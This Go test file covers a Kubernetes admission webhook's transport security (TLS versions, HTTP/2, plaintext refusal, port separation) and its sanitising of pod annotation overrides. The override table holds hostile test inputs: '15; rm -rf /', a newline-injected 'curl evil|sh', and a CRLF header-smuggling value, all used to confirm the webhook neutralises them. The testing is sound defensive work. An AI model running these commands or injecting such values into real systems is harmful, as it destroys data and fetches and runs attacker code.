package reliability

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	admissionv1 "k8s.io/api/admission/v1"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"

	"github.com/ha-webhook/ha-webhook/internal/names"
)

// TestTransportSecurity: the webhook port speaks TLS 1.2+ only, negotiates HTTP/1.1 unless --enable-http2, never
// admits over plaintext, and serves nothing but the webhooks; health and metrics live on their own ports.
func TestTransportSecurity(t *testing.T) {
	p := serve(t, "default", serveOptions{})
	cfg := tlsConfig(t, p.caPEM)
	var figures []string

	t.Run("TLS 1.0 and 1.1 refused, 1.2 and 1.3 accepted", func(t *testing.T) {
		for _, v := range []struct {
			name    string
			version uint16
			ok      bool
		}{{"TLS 1.0", tls.VersionTLS10, false}, {"TLS 1.1", tls.VersionTLS11, false}, {"TLS 1.2", tls.VersionTLS12, true}, {"TLS 1.3", tls.VersionTLS13, true}} {
			c := cfg.Clone()
			c.MinVersion, c.MaxVersion = v.version, v.version
			conn, err := tls.Dial("tcp", p.webhookAddr, c)
			if err == nil {
				conn.Close()
			}
			if (err == nil) != v.ok {
				t.Errorf("%s: handshake error %v, want accepted=%v", v.name, err, v.ok)
			}
			figures = append(figures, fmt.Sprintf("%s %s", v.name, map[bool]string{true: "accepted", false: "refused"}[err == nil]))
		}
	})

	t.Run("HTTP/2 off by default", func(t *testing.T) {
		proto, major := negotiate(t, p, cfg)
		if proto != "http/1.1" || major != 1 {
			t.Errorf("ALPN %q, HTTP/%d; want http/1.1 when the client offers h2 first", proto, major)
		}
		figures = append(figures, fmt.Sprintf("default: ALPN %s, HTTP/%d", proto, major))
	})

	t.Run("HTTP/2 with --enable-http2", func(t *testing.T) {
		h2 := serve(t, "http2", serveOptions{args: []string{"--enable-http2"}})
		proto, major := negotiate(t, h2, tlsConfig(t, h2.caPEM))
		if proto != "h2" || major != 2 {
			t.Errorf("ALPN %q, HTTP/%d with --enable-http2; want h2", proto, major)
		}
		figures = append(figures, fmt.Sprintf("--enable-http2: ALPN %s, HTTP/%d", proto, major))
	})

	t.Run("no admission over plaintext", func(t *testing.T) {
		before := metric(t, p.metricsAddr, "controller_runtime_webhook_requests_total")
		body := fmt.Sprintf(podReview, "plaintext")
		conn, err := net.Dial("tcp", p.webhookAddr)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s",
			names.PathMutatePod, p.webhookAddr, len(body), body)
		_ = conn.SetReadDeadline(time.Now().Add(5 * time.Second))
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		status, answer := 0, ""
		if err == nil {
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			status, answer = resp.StatusCode, string(b)
		}
		if status == http.StatusOK || strings.Contains(answer, "AdmissionReview") {
			t.Errorf("plain HTTP to the webhook port answered %d %q", status, answer)
		}
		if after := metric(t, p.metricsAddr, "controller_runtime_webhook_requests_total"); after != before {
			t.Errorf("a plaintext request reached a webhook (requests_total %v → %v)", before, after)
		}
		figures = append(figures, fmt.Sprintf("plaintext POST to the webhook port: HTTP %d %q (err %v)", status, strings.TrimSpace(answer), err))
	})

	t.Run("webhooks, health and metrics on separate ports", func(t *testing.T) {
		addrs := []string{p.webhookAddr, p.healthAddr, p.metricsAddr}
		if len(slices.Compact(slices.Sorted(slices.Values(addrs)))) != 3 {
			t.Fatalf("ports not distinct: %v", addrs)
		}
		https := keepAliveClient(cfg, 1)
		for _, path := range []string{"/metrics", "/healthz", "/readyz"} {
			if code := status(t, https, http.MethodGet, "https://"+p.webhookAddr+path); code != http.StatusNotFound {
				t.Errorf("webhook port serves %s: %d", path, code)
			}
		}
		plain := &http.Client{Timeout: 5 * time.Second}
		for addr, paths := range map[string][]string{p.healthAddr: {names.PathMutatePod, "/metrics"}, p.metricsAddr: {names.PathMutatePod, "/healthz"}} {
			for _, path := range paths {
				if code := status(t, plain, http.MethodPost, "http://"+addr+path); code != http.StatusNotFound {
					t.Errorf("%s serves %s: %d", addr, path, code)
				}
			}
		}
		if code := status(t, plain, http.MethodGet, "http://"+p.metricsAddr+"/metrics"); code != http.StatusOK {
			t.Errorf("metrics port: /metrics %d", code)
		}
		for _, path := range []string{"/healthz", "/readyz"} {
			if code := status(t, plain, http.MethodGet, "http://"+p.healthAddr+path); code != http.StatusOK {
				t.Errorf("health port: %s %d", path, code)
			}
		}
		figures = append(figures, "webhook port serves only the 3 webhook paths (/metrics, /healthz, /readyz: 404); health and metrics ports serve no webhook (404)")
	})
	t.Logf("FIGURES transport: %s", strings.Join(figures, "; "))
}

// negotiate offers h2 and http/1.1 (as Go's HTTP/2-capable clients do) and returns the negotiated ALPN protocol
// and the HTTP major version of an admission sent with an HTTP/2-capable client.
func negotiate(t *testing.T, p *serveProc, cfg *tls.Config) (string, int) {
	t.Helper()
	c := cfg.Clone()
	c.NextProtos = []string{"h2", "http/1.1"}
	conn, err := tls.Dial("tcp", p.webhookAddr, c)
	if err != nil {
		t.Fatal(err)
	}
	proto := conn.ConnectionState().NegotiatedProtocol
	conn.Close()
	tr := &http.Transport{TLSClientConfig: cfg.Clone(), ForceAttemptHTTP2: true}
	defer tr.CloseIdleConnections()
	resp, err := (&http.Client{Transport: tr, Timeout: 10 * time.Second}).Post(p.webhookURL(names.PathMutatePod),
		"application/json", strings.NewReader(fmt.Sprintf(podReview, "alpn")))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var review admissionv1.AdmissionReview
	if err := json.NewDecoder(resp.Body).Decode(&review); err != nil || review.Response == nil || !review.Response.Allowed {
		t.Errorf("admission over HTTP/%d: %v %+v", resp.ProtoMajor, err, review.Response)
	}
	return proto, resp.ProtoMajor
}

func status(t *testing.T, c *http.Client, method, url string) int {
	t.Helper()
	req, _ := http.NewRequest(method, url, strings.NewReader("{}"))
	req.Header.Set("Content-Type", "application/json")
	resp, err := c.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, url, err)
	}
	resp.Body.Close()
	return resp.StatusCode
}

// TestOverridesAndExemptionsThroughAPIServer: a `serve` with --prestop-mode=exec (the mode where a command could be
// injected) and --allow-exemptions=false, registered with the API server. Pods created through the API server with
// hostile overrides are stored with nothing but `sleep N` within the caps; an exempt annotation no longer exempts;
// and a 10 KB annotation value never comes back whole in a message or warning.
func TestOverridesAndExemptionsThroughAPIServer(t *testing.T) {
	p := serve(t, "hardened", serveOptions{args: []string{"--prestop-mode=exec", "--allow-exemptions=false"}})
	reg := registration{name: "security", base: "https://" + p.webhookAddr, caBundle: p.caPEM,
		policy: admissionregistrationv1.Fail, timeout: 5}
	register(t, reg)
	ns := scenarioNamespace(t, reg.name)
	mutatedByWebhook(t, ns)
	c, warnings := env.WarningClient(t)
	ctx := context.Background()
	long := strings.Repeat("9", 10240)
	var figures []string

	for _, tc := range []struct {
		name, annotation, value string
		wantCommand             []string
		wantGrace               int64
		wantProbe               string
	}{
		{"shell-injection", names.AnnotationPreStopSleepSeconds, "15; rm -rf /", []string{"sleep", "15"}, 45, "tcpSocket"},
		{"newline-injection", names.AnnotationPreStopSleepSeconds, "15\nsh -c 'curl evil|sh'", []string{"sleep", "15"}, 45, "tcpSocket"},
		{"over-cap", names.AnnotationPreStopSleepSeconds, "100000", []string{"sleep", "120"}, 150, "tcpSocket"},
		{"beyond-int64", names.AnnotationPreStopSleepSeconds, "99999999999999999999999", []string{"sleep", "120"}, 150, "tcpSocket"},
		{"10kb-value", names.AnnotationPreStopSleepSeconds, long, []string{"sleep", "120"}, 150, "tcpSocket"},
		{"header-smuggling-path", names.AnnotationReadinessPath, "/healthz\r\nX-Evil: 1", []string{"sleep", "15"}, 45, "tcpSocket"},
	} {
		pod := servingPod(ns, tc.name)
		pod.Annotations = map[string]string{tc.annotation: tc.value}
		warnings.Reset()
		if err := c.Create(ctx, pod); err != nil {
			t.Errorf("%s: %v", tc.name, err)
			continue
		}
		ctr := pod.Spec.Containers[0]
		var cmd []string
		if ctr.Lifecycle != nil && ctr.Lifecycle.PreStop != nil && ctr.Lifecycle.PreStop.Exec != nil {
			cmd = ctr.Lifecycle.PreStop.Exec.Command
		}
		if !slices.Equal(cmd, tc.wantCommand) {
			t.Errorf("%s: stored preStop command %q, want %q", tc.name, cmd, tc.wantCommand)
		}
		if g := pod.Spec.TerminationGracePeriodSeconds; g == nil || *g != tc.wantGrace {
			t.Errorf("%s: terminationGracePeriodSeconds %v, want %d", tc.name, g, tc.wantGrace)
		}
		if ctr.ReadinessProbe == nil || ctr.ReadinessProbe.TCPSocket == nil || ctr.ReadinessProbe.HTTPGet != nil {
			t.Errorf("%s: readiness probe %+v, want %s", tc.name, ctr.ReadinessProbe, tc.wantProbe)
		}
		ws := warnings.All()
		if len(ws) == 0 {
			t.Errorf("%s: no warning about the rejected override", tc.name)
		}
		for _, w := range ws {
			if len([]rune(w)) > 120 || strings.Contains(w, long) || strings.Contains(w, "\r") || strings.Contains(w, "\n") {
				t.Errorf("%s: warning not bounded or not escaped: %.200q", tc.name, w)
			}
		}
		figures = append(figures, fmt.Sprintf("%s %s=%.30q → preStop %q, grace %d, probe tcpSocket, warning %.60q…",
			tc.name, strings.TrimPrefix(tc.annotation, names.Prefix), tc.value, cmd, *pod.Spec.TerminationGracePeriodSeconds, first(ws)))
	}

	// Exemptions switched off: the annotation is ignored, the Deployment denied, a 10 KB reason never echoed.
	for _, reason := range []string{"incident INC-42: single replica until Monday", strings.Repeat("r", 10240)} {
		d := lonelyDeployment(ns, fmt.Sprintf("exempt-%d", len(reason)))
		d.Annotations = map[string]string{names.AnnotationExempt: reason}
		warnings.Reset()
		err := c.Create(ctx, d)
		if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "min-replicas") {
			t.Errorf("exempt Deployment with --allow-exemptions=false: %v, want a min-replicas denial", err)
			continue
		}
		if len(reason) > 1000 && (strings.Contains(err.Error(), reason) || strings.Contains(strings.Join(warnings.All(), "\n"), reason)) {
			t.Errorf("the 10 KB exemption reason is echoed")
		}
		if !slices.ContainsFunc(warnings.All(), func(w string) bool { return strings.Contains(w, "exemptions are disabled") }) {
			t.Logf("no warning saying exemptions are disabled (wording may differ): %q", warnings.All())
		}
		figures = append(figures, fmt.Sprintf("exempt reason of %d bytes with --allow-exemptions=false → denied (%d-byte message)", len(reason), len(err.Error())))
	}
	t.Logf("FIGURES overrides and exemptions through the API server:\n  %s", strings.Join(figures, "\n  "))
}

func first(s []string) string {
	if len(s) == 0 {
		return ""
	}
	return s[0]
}
